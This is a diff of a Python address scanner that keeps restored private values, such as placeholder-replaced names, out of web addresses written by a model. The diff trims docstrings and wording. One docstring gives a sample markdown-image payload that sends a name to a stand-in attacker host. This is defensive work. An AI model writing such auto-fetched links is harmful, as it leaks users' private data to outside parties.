@@ -1,4 +1,4 @@
-"""Finds web addresses in a text, in linear time, and keeps originals out of addresses that a model wrote.
+"""Finds web addresses in a text, and keeps originals out of addresses that a model wrote.
 
 A page fetches addresses by itself: ``![x](https://evil.example/?q=<PERSON_1>)`` would send a restored name.
 """
@@ -40,7 +40,7 @@ def checked_hosts(hosts: Collection[str]) -> frozenset[str]:
 class AddressScanner:
     """Follows one text, whole or in pieces, and tracks whether it is inside an address.
 
-    A single ``value``, such as a tool's argument, is an address if it begins like one.
+    A single ``value``, such as a tool's argument, is one if it begins like one.
     """
 
     def __init__(self, *, value: bool = False) -> None:
@@ -56,7 +56,6 @@ class AddressScanner:
 
     @property
     def begins(self) -> int | None:
-        """Start of the current address, or None outside of one."""
         if self._value is not None and BEGINS.match(html.unescape(self._value.lstrip())):
             return self._value_begins + len(self._value) - len(self._value.lstrip())
         if self._from is None:
@@ -74,13 +73,11 @@ class AddressScanner:
         return self._position - len(self._word) + self._from
 
     def host(self) -> str | None:
-        """Return the current address's host in lower case. None until it is complete."""
         value = self._value.lstrip() if self._value is not None else ""
         match = _HOST.match(value if BEGINS.match(value) else self._word[self._from or 0 :])
         return None if match is None else match[1].lower()
 
     def push(self, token: str, written: int | None = None) -> None:
-        """Read a token: a placeholder, white space, one mark, or other characters."""
         self._position += len(token) if written is None else written
         if token == self._closer and token:
             self._value, self._closer, self._word = None, "", ""
@@ -100,7 +97,6 @@ class AddressScanner:
 
 
 def addresses(text: str) -> Iterator[tuple[int, int]]:
-    """Yield start and end of every address."""
     if not BEGINS.search(text):
         return
     scanner, begins = AddressScanner(), None
